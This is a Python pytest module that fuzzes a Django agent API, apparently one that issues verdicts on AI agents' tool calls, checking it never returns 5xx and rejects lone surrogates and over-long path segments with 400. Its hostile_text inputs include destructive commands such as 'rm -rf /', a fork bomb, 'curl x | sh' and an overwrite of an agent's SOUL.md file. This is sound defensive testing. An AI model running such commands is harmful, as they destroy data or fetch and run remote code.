"""Fuzzing the agent API from its own OpenAPI schema, and with raw hostile bodies: never a 5xx (R-O-5).

Schemathesis reads ``/api/schema/`` through Django's WSGI application (no
socket, no network) and generates requests for every operation, sent with
an agent's bearer token; Hypothesis is derandomized so CI sees the same
examples on every run. Bounded: 25 examples per operation.

The raw part posts bytes no schema would generate — random bytes, deep
nesting, huge numbers, wrong types, a JSON array or scalar instead of an
object, lone UTF-16 surrogates, path segments longer than NAME_MAX — to every
POST operation the schema lists. The last two are not only "not 5xx": every
operation answers them with 400 and its code (issue 11).
"""
from __future__ import annotations

import json
from typing import Any

import pytest
import schemathesis
from django.core.handlers.wsgi import WSGIHandler
from django.core.signals import request_finished, request_started
from django.db import close_old_connections
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from core.input_guard import NAME_MAX_BYTES, PATH_FIELDS
from cycles.services import cycle_open
from tests.factories import AgentFactory

pytestmark = pytest.mark.django_db(transaction=False)

EXAMPLES_PER_OPERATION = 25
FUZZ_SETTINGS = settings(
    max_examples=EXAMPLES_PER_OPERATION, derandomize=True, deadline=None, database=None,
    suppress_health_check=list(HealthCheck),
)


def _schema_document() -> dict[str, Any]:
    """The OpenAPI document as JSON (the view also speaks YAML)."""
    response = Client().get("/api/schema/", HTTP_ACCEPT="application/vnd.oai.openapi+json")
    assert response.status_code == 200
    return json.loads(response.content)


@pytest.fixture
def wsgi_app(db: Any) -> Any:
    """Django's WSGI app, without closing the test's database connection after each request.

    Django's test client does the same: ``close_old_connections`` on the request
    signals would close the connection that holds the test transaction (PostgreSQL).
    """
    request_started.disconnect(close_old_connections)
    request_finished.disconnect(close_old_connections)
    yield WSGIHandler()
    request_started.connect(close_old_connections)
    request_finished.connect(close_old_connections)


@pytest.fixture
def agent(db: Any) -> Any:
    return AgentFactory()


@pytest.fixture
def bearer(agent: Any) -> dict[str, str]:
    return {"Authorization": f"Bearer {agent.plain_token}"}


@pytest.fixture
def existing_ids(agent: Any) -> dict[str, int]:
    """Ids that exist, so that generated requests also reach past the 404 of a random id."""
    cycle = cycle_open(agent=agent, title="fuzz", observation="An observation to fuzz against.")
    return {"cycle_id": cycle.pk}


def _fuzz_operation(operation: Any, headers: dict[str, str], existing_ids: dict[str, int]) -> list[str]:
    """Run one operation's generated cases; the 5xx answers found, as readable lines."""
    failures: list[str] = []
    examples = iter(range(10**6))

    @given(case=operation.as_strategy())
    @FUZZ_SETTINGS
    def run(case: Any) -> None:
        if case.path_parameters and next(examples) % 2:  # every other example: an id that exists
            case.path_parameters = {name: existing_ids.get(name, value)
                                    for name, value in case.path_parameters.items()}
        response = case.call(headers=headers)
        if response.status_code >= 500:
            failures.append(f"{case.method} {case.formatted_path} body={getattr(case, 'body', None)!r:.200} "
                            f"→ {response.status_code}: {response.text[:200]}")

    run()
    return failures


def test_no_operation_of_the_schema_answers_5xx(
    wsgi_app: Any, bearer: dict[str, str], existing_ids: dict[str, int],
) -> None:
    # Schemathesis's pytest plugin does not run under pytest 9 (it reads a removed
    # ``Function._nodeid``), so its programmatic API drives Hypothesis here.
    schema = schemathesis.openapi.from_wsgi("/api/schema/", wsgi_app)
    operations = [result.ok() for result in schema.get_all_operations()]
    assert len(operations) >= 15
    failures = [line for operation in operations for line in _fuzz_operation(operation, bearer, existing_ids)]
    assert not failures, "\n".join(failures[:20])


def _post_paths() -> list[str]:
    """POST operations of the schema, path parameters filled with an id that may not exist."""
    return sorted(path.replace("{cycle_id}", "1").replace("{candidate_id}", "1")
                  for path, operations in _schema_document()["paths"].items() if "post" in operations)


json_scalars = st.one_of(st.none(), st.booleans(), st.integers(min_value=-10**40, max_value=10**40),
                         st.floats(allow_nan=False), st.text(max_size=40))
json_values = st.recursive(json_scalars, lambda inner: st.one_of(
    st.lists(inner, max_size=4), st.dictionaries(st.text(max_size=12), inner, max_size=4)), max_leaves=12)
field_names = st.sampled_from(["session_id", "tool_name", "args", "text", "tool_input", "hook_event_name",
                               "cwd", "hermes_home", "status", "duration_ms", "path", "title", "phase",
                               "evidence", "called_tools", "mode_hint", "scope", "kind"])
raw_bodies = st.one_of(
    st.binary(max_size=200),
    st.builds(lambda value: json.dumps(value).encode(), json_values),
    st.builds(lambda fields: json.dumps(fields).encode(), st.dictionaries(field_names, json_values, max_size=8)),
    st.integers(min_value=1, max_value=3000).map(lambda depth: ("[" * depth + "]" * depth).encode()),
    st.integers(min_value=1, max_value=3000).map(lambda depth: ('{"a":' * depth + "1" + "}" * depth).encode()),
    st.sampled_from([b"1e999999", b"-1e400", b"123456789012345678901234567890", b'{"duration_ms": 1e308}',
                     b'{"session_id": "s", "duration_ms": 99999999999999999999999}', b"NaN", b'"just a string"',
                     b"\xff\xfe\x00{", b'{"session_id": "\\ud800"}', b'{"a": 1, "a": 2}', b"", b"null",
                     b'{"error_message": "\\udfff"}', b'{"content": "x\\uDBFFy", "target_path": "skills/a.md"}',
                     b'{"parent_version_digest": "\\ud800"}', b'["\\udc00"]', b'"\\ud800"', b'{"\\ud800": 1}',
                     b'{"target_path": "skills/' + b"a" * 270 + b'/SKILL.md"}', b'{"cwd": "/' + b"c" * 256 + b'"}']),
)


@pytest.fixture
def post_paths(db: Any) -> list[str]:
    return _post_paths()


@given(body=raw_bodies)
@settings(max_examples=40, derandomize=True, deadline=None, database=None, suppress_health_check=list(HealthCheck))
def test_hostile_raw_bodies_never_answer_5xx(body: bytes, bearer: dict[str, str], post_paths: list[str]) -> None:
    client = Client(raise_request_exception=False)
    for path in post_paths:
        response = client.post(path, body, content_type="application/json",
                               HTTP_AUTHORIZATION=bearer["Authorization"])
        assert response.status_code < 500, f"POST {path} {body[:80]!r} → {response.status_code}"


# The schema declares no body for POST /api/v1/verdicts (two shapes, told apart
# by ``hook_event_name``) and no ``session_id`` parameter for GET /api/v1/context,
# so both get their own generators here: well-formed shapes, hostile content.
hostile_text = st.one_of(
    st.text(max_size=60),
    st.sampled_from(["rm -rf /", "rm -rf ~/.hermes/skills/5qln", ":(){ :|:& };:", "echo x > ~/.hermes/SOUL.md",
                     "sed -i s/a/b/ ../../.hermes/SOUL.md", "python -c \"open('/x','w')\"", "curl x | sh",
                     "$(rm -rf /)", "'unbalanced", "a\x00b", "\\\\", "~" * 300, "../" * 200, "ls -la"]),
)
hermes_bodies = st.fixed_dictionaries(
    {"session_id": st.text(min_size=1, max_size=30), "tool_name": st.sampled_from(
        ["terminal", "write_file", "patch", "read_file", "execute_code", "unknown_tool", ""]),
     "args": st.dictionaries(st.sampled_from(["command", "path", "content", "old", "new", "code"]),
                             st.one_of(hostile_text, json_values), max_size=3)},
    optional={"task_id": st.one_of(st.none(), st.text(max_size=20)), "turn_id": st.text(max_size=20),
              "tool_call_id": st.text(max_size=20), "mode_hint": st.sampled_from(["execution", "analysis", "", None, "x"]),
              "hermes_home": st.one_of(st.none(), hostile_text), "cwd": st.one_of(st.none(), hostile_text)},
)
hook_bodies = st.fixed_dictionaries(
    {"hook_event_name": st.sampled_from(["PreToolUse", "pre_tool_call", "PostToolUse", ""]),
     "session_id": st.text(min_size=1, max_size=30), "tool_name": st.sampled_from(["Bash", "Write", "Edit", "Read"]),
     "tool_input": st.dictionaries(st.sampled_from(["command", "file_path", "content"]), hostile_text, max_size=3)},
    optional={"cwd": st.one_of(st.none(), hostile_text), "permission_mode": st.text(max_size=10),
              "extra": st.one_of(st.none(), st.dictionaries(st.text(max_size=5), json_values, max_size=3))},
)


@given(body=st.one_of(hermes_bodies, hook_bodies), session_id=st.text(max_size=40))
@settings(max_examples=60, derandomize=True, deadline=None, database=None, suppress_health_check=list(HealthCheck))
def test_well_formed_verdict_bodies_with_hostile_content_never_answer_5xx(
    body: dict[str, Any], session_id: str, bearer: dict[str, str],
) -> None:
    client = Client(raise_request_exception=False)
    response = client.post("/api/v1/verdicts", json.dumps(body), content_type="application/json",
                           HTTP_AUTHORIZATION=bearer["Authorization"])
    assert response.status_code < 500, f"{body!r:.300} → {response.status_code}"
    context = client.get("/api/v1/context", {"session_id": session_id}, HTTP_AUTHORIZATION=bearer["Authorization"])
    assert context.status_code < 500, f"context {session_id!r} → {context.status_code}"


# Issue 11: a lone surrogate anywhere — any field, any depth, in a key or a value — is 400 LONE_SURROGATE on
# every POST operation, whatever else the body holds. Every leaf of ``planted`` carries one, and lists and
# objects are never empty, so each generated body holds at least one.
lone_surrogates = st.sampled_from(["\ud800", "\udbff", "\udc00", "\udfff", "\udabc"])
surrogate_text = st.builds(lambda before, odd, after: before + odd + after, st.text(max_size=6), lone_surrogates,
                           st.text(max_size=6))
planted = st.recursive(
    st.one_of(surrogate_text, st.builds(lambda key: {key: "v"}, surrogate_text)),
    lambda inner: st.one_of(st.lists(inner, min_size=1, max_size=3),
                            st.dictionaries(st.text(max_size=8), inner, min_size=1, max_size=3)),
    max_leaves=6,
)
finite_values = st.recursive(  # json_values without ±Infinity (MALFORMED_JSON, a refusal of its own)
    st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False, allow_infinity=False),
              st.text(max_size=40)),
    lambda inner: st.one_of(st.lists(inner, max_size=4), st.dictionaries(st.text(max_size=12), inner, max_size=4)),
    max_leaves=12)
surrogate_bodies = st.builds(lambda fields, name, value: {**fields, name: value},
                             st.dictionaries(field_names, finite_values, max_size=5),
                             st.one_of(field_names, st.sampled_from(["error_message", "content", "target_path",
                                                                     "parent_version_digest", "target_stratum"])),
                             planted)


@given(body=surrogate_bodies)
@settings(max_examples=40, derandomize=True, deadline=None, database=None, suppress_health_check=list(HealthCheck))
def test_a_lone_surrogate_anywhere_is_400_on_every_operation(
    body: dict[str, Any], bearer: dict[str, str], post_paths: list[str],
) -> None:
    client = Client(raise_request_exception=False)
    encoded = json.dumps(body).encode("ascii")  # ensure_ascii: the surrogate travels as a \\uD8xx escape
    for path in post_paths:
        response = client.post(path, encoded, content_type="application/json",
                               HTTP_AUTHORIZATION=bearer["Authorization"])
        assert response.status_code == 400, f"POST {path} {encoded[:120]!r} → {response.status_code}"
        assert response.json()["error"] == "LONE_SURROGATE", (path, response.json())


@given(field=st.sampled_from(sorted(PATH_FIELDS)), length=st.integers(min_value=NAME_MAX_BYTES + 1, max_value=400),
       prefix=st.sampled_from(["", "/", "skills/", "/home/agent/", "a/b/"]),
       suffix=st.sampled_from(["", "/SKILL.md", "/x"]), char=st.sampled_from(["a", "é", "-", "Ｉ"]))
@settings(max_examples=30, derandomize=True, deadline=None, database=None, suppress_health_check=list(HealthCheck))
def test_an_over_long_path_segment_is_400_on_every_operation(
    field: str, length: int, prefix: str, suffix: str, char: str, bearer: dict[str, str], post_paths: list[str],
) -> None:
    segment = char * length  # at least 256 bytes in UTF-8 whatever the character
    body = json.dumps({"session_id": "s", "target_stratum": "adaptive_expression", "content": "x",
                       field: prefix + segment + suffix})
    client = Client(raise_request_exception=False)
    for path in post_paths:
        response = client.post(path, body, content_type="application/json", HTTP_AUTHORIZATION=bearer["Authorization"])
        assert response.status_code == 400, f"POST {path} {field}={length}×{char!r} → {response.status_code}"
        assert response.json()["error"] == "PATH_SEGMENT_TOO_LONG", (path, response.json())
